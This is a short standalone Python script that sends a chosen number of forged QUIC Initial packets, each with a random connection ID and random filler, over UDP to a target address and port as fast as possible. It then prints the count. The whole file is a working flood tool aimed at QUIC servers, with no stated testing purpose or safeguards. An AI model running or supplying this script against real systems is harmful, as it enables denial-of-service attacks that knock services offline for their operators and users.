"""COUNT forged QUIC Initials with random connection IDs to ADDRESS PORT, as fast as they leave; prints how many did."""

from __future__ import annotations

import os
import socket
import sys


def main(address: str, port: int, count: int) -> None:
    filler = os.urandom(1180)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        for _ in range(count):
            out.sendto(b"\xc3\0\0\0\1\x08" + os.urandom(8) + b"\0\0\x44\x8a" + filler, (address, port))
    print(count)


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
